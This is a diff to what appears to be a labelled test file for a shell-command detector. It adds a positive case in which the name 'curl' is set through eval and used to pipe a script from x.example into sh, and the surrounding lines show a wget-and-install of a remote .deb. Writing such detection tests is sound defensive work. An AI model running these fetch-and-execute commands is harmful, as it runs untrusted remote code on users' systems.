@@ -392,3 +392,6 @@ wget -qO /tmp/c.deb https://x.example/c.deb && sudo apt install -y /tmp/c.deb
 #@ neg a package built locally installed
 dpkg-buildpackage -us -uc -b
 sudo dpkg -i ../mytool_1.0_amd64.deb
+#@ pos a command name set by eval of a constant string
+eval 'c=curl'
+$c -fsSL https://x.example/i.sh | sh
